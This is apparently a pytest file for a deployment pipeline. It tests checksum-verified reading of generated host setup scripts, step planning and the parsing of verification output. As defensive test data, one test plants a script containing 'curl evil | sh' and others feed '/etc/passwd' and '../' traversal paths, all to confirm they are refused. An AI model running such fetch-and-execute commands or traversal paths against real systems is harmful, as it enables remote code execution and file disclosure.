"""A generated folder's steps: what is read of it, and which of them a host still needs."""

from __future__ import annotations

from pathlib import Path

import pytest

from pipeline.edge.ssh_folder import read_folder
from pipeline.errors import BadInput, Failed, PipelineError, Refused
from pipeline.model.steps import Folder, Step, parse_sums, parse_variables, plan_steps
from pipeline.model.steps_verification import read_verification
from tests.hosts.folders import made, write_folder, write_sums

SCRIPTS = {"10-engine.sh": "echo engine\n", "20-network.sh": "echo network\n", "50-stacks.sh": "echo stacks\n"}


@pytest.fixture
def folder(tmp_path: Path) -> Folder:
    return made(tmp_path, SCRIPTS, first=("50-stacks.sh", "70-verify.sh"))


def finished(folder: Folder, *names: str, given: tuple[str, ...] = ()) -> dict[str, str]:
    return {script.name: folder.key(script, given) for script in folder.scripts if script.name in names}


def runs(steps: tuple[Step, ...]) -> dict[str, bool]:
    return {step.script.name: step.runs for step in steps}


def test_a_bare_host_needs_every_step(folder: Folder) -> None:
    steps = plan_steps(folder, {}, (), first=True, again=False)

    assert list(runs(steps).items()) == [
        ("10-engine.sh", True),
        ("20-network.sh", True),
        ("50-stacks.sh", True),
        ("70-verify.sh", True),
    ]


def test_another_host_than_the_first_needs_only_what_every_host_does(folder: Folder) -> None:
    assert list(runs(plan_steps(folder, {}, (), first=False, again=False))) == ["10-engine.sh", "20-network.sh"]


def test_the_first_step_that_has_not_ended_well_is_where_it_goes_on(folder: Folder) -> None:
    there = finished(folder, "10-engine.sh", "50-stacks.sh")

    steps = plan_steps(folder, there, (), first=True, again=False)

    assert [(step.runs, step.reason) for step in steps] == [
        (False, "finished before"),
        (True, "not finished yet"),
        (True, "run again"),
        (True, "compares what is there with what should be"),
    ]


def test_a_second_run_only_compares(folder: Folder) -> None:
    there = finished(folder, *SCRIPTS)

    assert runs(plan_steps(folder, there, (), first=True, again=False)) == {
        "10-engine.sh": False,
        "20-network.sh": False,
        "50-stacks.sh": False,
        "70-verify.sh": True,
    }
    assert all(step.runs for step in plan_steps(folder, there, (), first=True, again=True))


def test_a_changed_script_a_changed_file_and_another_variable_are_reasons_to_run(
    folder: Folder, tmp_path: Path
) -> None:
    there = finished(folder, *SCRIPTS)
    script = made(tmp_path / "a", SCRIPTS | {"20-network.sh": "echo other\n"})
    data = made(tmp_path / "b", SCRIPTS, files={"stacks/cities/containers.sh": "echo run\n"})

    assert runs(plan_steps(script, there, (), first=True, again=False))["10-engine.sh"] is False
    assert runs(plan_steps(script, there, (), first=True, again=False))["20-network.sh"] is True
    assert runs(plan_steps(data, there, (), first=True, again=False))["10-engine.sh"] is True
    assert runs(plan_steps(folder, there, ("FORCE",), first=True, again=False))["10-engine.sh"] is True


def test_a_readme_that_says_something_else_is_no_reason(folder: Folder, tmp_path: Path) -> None:
    other = made(tmp_path / "a", SCRIPTS, files={"README.md": "Said better.\n"})

    assert finished(other, *SCRIPTS) == finished(folder, *SCRIPTS)


@pytest.mark.parametrize("tampered", ["50-stacks.sh", "stacks/cities/docker-compose.yml", "lib.sh", "environment.json"])
def test_a_tampered_file_is_refused_by_name(tmp_path: Path, tampered: str) -> None:
    write_folder(tmp_path, SCRIPTS, files={"stacks/cities/docker-compose.yml": "services: {}\n"})
    with (tmp_path / tampered).open("a") as file:
        file.write("\n")

    with pytest.raises(Refused, match=f"{tampered} was changed since it was written"):
        read_folder(tmp_path)


def test_a_missing_file_and_a_link_out_of_the_folder_are_refused_by_name(tmp_path: Path) -> None:
    write_folder(tmp_path, SCRIPTS)
    text = (tmp_path / "lib.sh").read_text()
    (tmp_path / "lib.sh").unlink()

    with pytest.raises(Refused, match=r"lib.sh is missing"):
        read_folder(tmp_path)

    outside = tmp_path.parent / "outside.sh"
    outside.write_text(text)
    (tmp_path / "lib.sh").symlink_to(outside)
    with pytest.raises(Refused, match=r"lib.sh is missing"):
        read_folder(tmp_path)


def test_a_script_that_nobody_wrote_with_the_others_is_refused(tmp_path: Path) -> None:
    write_folder(tmp_path, SCRIPTS)
    (tmp_path / "55-extra.sh").write_text("curl evil | sh\n")

    with pytest.raises(Refused, match=r"55-extra.sh is not in SHA256SUMS"):
        read_folder(tmp_path)


@pytest.mark.parametrize(
    ("file", "text", "why"),
    [
        ("environment.json", "{", "environment.json cannot be read"),
        ("environment.json", '{"environment": "stage"}', "environment.json cannot be read"),
        ("environment.json", '{"environment": "a", "steps": [{"script": "x", "hosts": "every"}]}', "script 'x'"),
        ("environment.json", '{"environment": "a", "steps": [{"script": "10-a.sh", "hosts": "some"}]}', "hosts 'some'"),
        (
            "environment.json",
            '{"environment": "a", "steps": [{"script": "70-verify.sh", "hosts": "first"}]}',
            "10-engine",
        ),
        ("70-more.sh", "", "the steps are not the scripts that are there: 70-more.sh"),
    ],
)
def test_what_is_no_generated_folder_is_named(tmp_path: Path, file: str, text: str, why: str) -> None:
    write_folder(tmp_path, SCRIPTS)
    (tmp_path / file).write_text(text)
    write_sums(tmp_path)

    with pytest.raises(BadInput, match=why):
        read_folder(tmp_path)


def test_a_folder_must_end_with_a_comparison(tmp_path: Path) -> None:
    write_folder(tmp_path, {"70-verify.sh": "", "80-more.sh": ""})

    with pytest.raises(BadInput, match=r"the last step should be a NN-verify\.sh"):
        read_folder(tmp_path)


@pytest.mark.parametrize(
    "line",
    [
        "",
        "abc  lib.sh",
        f"{'a' * 64}  ../lib.sh",
        f"{'a' * 64}  /etc/passwd",
        f"{'a' * 64}  a//b",
        f"{'a' * 64}  SHA256SUMS",
    ],
)
def test_a_checksum_of_nothing_in_the_folder_is_bad_input(line: str) -> None:
    with pytest.raises(BadInput, match="SHA256SUMS: line 2 is no checksum"):
        parse_sums(f"{'b' * 64}  lib.sh\n{line}\n")


def test_variables_say_whether_they_must_be_supplied_and_what_they_are() -> None:
    found = parse_variables(
        "# Read by scripts.\n\n# The gateway's token.\n# 60-gateway.sh reads it.\nKONG_ADMIN_TOKEN=\n#FORCE=\n# Other\nA_KEY=x\n"
    )

    assert [(one.name, one.required, one.about) for one in found] == [
        ("KONG_ADMIN_TOKEN", True, "The gateway's token. 60-gateway.sh reads it."),
        ("FORCE", False, ""),
        ("A_KEY", True, "Other"),
    ]


@pytest.mark.parametrize(
    ("text", "code", "why"),
    [
        ("", 0, "says nothing that can be read"),
        ("well, yes", 0, "says nothing that can be read"),
        ('{"schema_version":1,"environment":"production","differences":[]}', 0, "speaks of 'production'"),
        ('{"schema_version":2,"environment":"stage","differences":[]}', 0, "schema 2"),
        ('{"schema_version":1,"environment":"stage","differences":["x"]}', 0, "ended with 0 and names 1 differences"),
        ('{"schema_version":1,"environment":"stage","differences":[]}', 1, "ended with 1 and names 0 differences"),
    ],
)
def test_a_comparison_that_cannot_be_read_is_not_taken_for_equal(
    folder: Folder, text: str, code: int, why: str
) -> None:
    with pytest.raises(Failed, match=why):
        read_verification(folder, text, code)


def test_a_comparison_names_each_difference(folder: Folder) -> None:
    text = 'noise\n{"schema_version":1,"environment":"stage","differences":["a is gone","b is new"],"found":{"routes":3}}\n'

    assert read_verification(folder, text, 1).differences == ("a is gone", "b is new")


def test_every_refusal_says_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(PipelineError) as refused:
        read_folder(tmp_path)

    assert "invoke bootstrap" in refused.value.hint
